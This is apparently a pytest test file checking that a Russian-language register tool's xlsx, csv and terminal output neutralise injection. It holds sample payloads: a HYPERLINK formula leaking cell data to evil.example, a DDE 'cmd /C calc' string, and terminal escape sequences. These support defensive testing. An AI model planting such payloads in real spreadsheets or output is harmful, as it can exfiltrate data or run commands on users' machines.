"""Injection through the outputs: spreadsheet formulas (OWASP CSV injection, DDE), text beyond
Excel's cell limit, terminal escape sequences. Payloads are built here, carried by file names
(through the CLI) and by directive texts (through the renderers)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import time
from dataclasses import replace
from pathlib import Path

import pytest

from protokol.model import ParseResult
from protokol.output.formats import render
from protokol.output.register import COLUMNS
from protokol.output.safe import FORMULA_START
from protokol.output.xlsx import CONTINUED, MAX_CELL
from tests.hostile.conftest import SAMPLES, SEED, assert_refused, cli

TXT = SAMPLES / f"{SEED}.txt"
LIBREOFFICE_PACKAGE = "libreoffice-calc-nogui"


def formulas() -> list[str]:
    """Cell texts a spreadsheet would run: formulas, DDE, and their look-alike starts."""
    call = '=HYPERLINK("http://evil.example/?leak="&A1,"нажмите")'
    dde = "=cmd|' /C calc'!A0"
    return [call, dde, "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\uff1d1+1",
            "-2+3+cmd|' /C calc'!A0", "@HYPERLINK(\"http://evil.example\")"]


def file_names() -> list[str]:
    """Formulas as file names (no "/" and no control characters: a file system keeps these)."""
    names = ['=HYPERLINK("http:evil.example","y")', "=cmd|' C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)"]
    return [f"{name}.txt" for name in names]


def escapes() -> list[str]:
    """Terminal escape sequences: set the title (OSC), clear the screen (CSI), C1 CSI, BEL."""
    return ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\x9b31m", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
            "\x07\x08\x7f"]


def sample() -> ParseResult:
    from protokol.api import parse

    return parse(TXT)


def carrying(texts: list[str], result: ParseResult | None = None) -> ParseResult:
    """The sample with its first tasks' texts (and addressees) replaced by `texts`."""
    result = result or sample()
    pool = iter(texts)
    sections = []
    for section in result.sections:
        directives = []
        for directive in section.directives:
            text = next(pool, None) if directive.kind == "task" else None
            directives.append(directive if text is None else
                              replace(directive, text=text, addressees=(text, *directive.addressees)))
        sections.append(replace(section, directives=tuple(directives)))
    return replace(result, sections=tuple(sections))


def xlsx_cells(data: bytes) -> list:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def csv_cells(text: str, delimiter: str = ",") -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def assert_no_formula_start(cells: list[str]) -> None:
    bad = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert not bad, bad[:5]


# ---------------------------------------------------------------- 5. formulas


def test_file_names_that_are_formulas_stay_text(tmp_path):
    for name in file_names():
        (tmp_path / name).write_bytes(TXT.read_bytes())
    for out in ("r.xlsx", "r.csv"):
        proc = cli("parse", "-o", out, "--", *file_names(), cwd=tmp_path, timeout=120)
        assert proc.returncode == 0, proc.stderr[-2000:]
    cells = xlsx_cells((tmp_path / "r.xlsx").read_bytes())
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert set(file_names()) <= {c.value for c in cells}  # the text itself is kept, exactly
    written = csv_cells((tmp_path / "r.csv").read_text(encoding="utf-8"))
    assert_no_formula_start(written)
    assert {"'" + name for name in file_names()} <= set(written)


@pytest.mark.parametrize("excel", [False, True])
def test_directive_texts_that_are_formulas_stay_text(excel):
    result = carrying(formulas())
    cells = xlsx_cells(render("xlsx", [result]))  # type: ignore[arg-type]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    kept = {c.value for c in cells if isinstance(c.value, str)}
    assert {"=1+1", "+1+1", "@SUM(1+1)", formulas()[0], formulas()[1]} <= kept
    written = csv_cells(render("csv", [result], excel=excel), ";" if excel else ",")  # type: ignore[arg-type]
    assert_no_formula_start(written)
    assert {"'=1+1", "'+1+1", "'-1+1", "'@SUM(1+1)", "'\t=1+1", "\\x0d=1+1", "'\uff1d1+1"} <= set(written)


def _soffice_to_csv(source: Path, work: Path) -> list[list[str]]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, f"LibreOffice is required for this test: apt-get install -y {LIBREOFFICE_PACKAGE}"
    out = work / "lo-out"
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{work / 'lo-profile'}",
                    "--infilter=CSV:44,34,76", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                    "--outdir", str(out), str(source)],
                   check=True, capture_output=True, timeout=180)
    text = (out / (source.stem + ".csv")).read_text(encoding="utf-8")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_libreoffice_evaluates_nothing(tmp_path):
    """A real spreadsheet program opens both registers: every payload comes back as text,
    none is evaluated (=1+1 would come back as 2, HYPERLINK as its label)."""
    payloads = ["=1+1", "+2+2", "-3+3", "@SUM(4+4)", '=HYPERLINK("http://evil.example","нажмите")',
                "=cmd|' /C calc'!A0"]
    result = carrying(payloads)
    (tmp_path / "r.xlsx").write_bytes(render("xlsx", [result]))  # type: ignore[arg-type]
    (tmp_path / "r.csv").write_bytes(render("csv", [result]).encode("utf-8"))  # type: ignore[union-attr]
    for name in ("r.xlsx", "r.csv"):
        rows = _soffice_to_csv(tmp_path / name, tmp_path)
        at = rows[0].index("Поручение")
        seen = [row[at] for row in rows[1:]]
        assert set(payloads) <= {cell.lstrip("'") for cell in seen}, (name, seen[:10])
        assert not {"2", "4", "0", "8", "нажмите", "#NAME?", "Err:508"} & set(seen), (name, seen[:10])


# ---------------------------------------------------------------- 6. long cells


TEXT_COLUMN = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[COLUMNS.index("Поручение")]  # the register's "Поручение"


def _continued_text(data: bytes) -> tuple[str, list[str]]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    cell = book["Реестр"][f"{TEXT_COLUMN}2"].value
    parts = [row[3] for row in book[CONTINUED].iter_rows(min_row=2, values_only=True) if row[1] == f"{TEXT_COLUMN}2"]
    return cell, parts


@pytest.mark.parametrize("length", [MAX_CELL + 1, 100_000, 3 * MAX_CELL])
def test_a_text_over_the_cell_limit_is_kept_whole_and_says_so(length):
    long_text = "".join(f"слово{n} " for n in range(length))[:length]
    data = render("xlsx", [carrying([long_text])])
    cell, parts = _continued_text(data)  # type: ignore[arg-type]
    assert len(cell) <= MAX_CELL and f"«{CONTINUED}»" in cell and f"Реестр!{TEXT_COLUMN}2" in cell
    note = cell[cell.rindex(" […продолжение"):]
    assert cell[: -len(note)] + "".join(parts) == long_text
    assert all(len(part) <= MAX_CELL for part in parts)
    assert long_text in csv_cells(render("csv", [carrying([long_text])]))  # csv has no limit: whole, in one cell


def test_a_short_register_has_no_continuation_sheet():
    from openpyxl import load_workbook

    assert load_workbook(io.BytesIO(render("xlsx", [sample()]))).sheetnames == ["Реестр", "Протоколы", "Ссылки"]  # type: ignore[arg-type]


def test_continuation_grows_linearly():
    def seconds(length: int) -> float:
        text = "я" * length
        start = time.perf_counter()
        render("xlsx", [carrying([text, text])])
        return time.perf_counter() - start

    seconds(1000)  # imports and first-use costs out of the measurement
    small, big = min(seconds(100_000) for _ in range(3)), seconds(1_600_000)
    assert big < 20 * small, (small, big)


# ---------------------------------------------------------------- 7. terminal escapes


@pytest.mark.parametrize("fmt", ["table", "md", "csv"])
def test_escapes_in_a_file_name_never_reach_the_terminal(tmp_path, fmt):
    name = "".join(escapes()[:2]) + "протокол.txt"
    (tmp_path / name).write_bytes(TXT.read_bytes())
    proc = cli("parse", name, "-f", fmt, cwd=tmp_path, timeout=60)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
    assert "\\x1b]0;pwned\\x07" in proc.stdout


@pytest.mark.parametrize("fmt, options", [("table", {}), ("table", {"color": True}), ("md", {}), ("csv", {})])
def test_escapes_in_directive_texts_are_shown_not_obeyed(fmt, options):
    text = render(fmt, [carrying(escapes())], width=200, **options)
    assert isinstance(text, str)
    for raw in ("\x1b]", "\x1b[2J", "\x9b", "\x07", "\x08", "\x7f"):
        assert raw not in text, (fmt, raw)
    assert "\\x1b]0;pwned\\x07" in text and "\\x9b31m" in text


def test_escapes_in_error_messages_are_one_visible_line(tmp_path):
    name = "".join(escapes()) + "\nнет.txt"
    proc = cli("parse", name, cwd=tmp_path, timeout=30)
    message = assert_refused(proc, "file not found")
    assert "\x1b" not in message and "\x9b" not in message and "\\x1b]0;pwned" in message
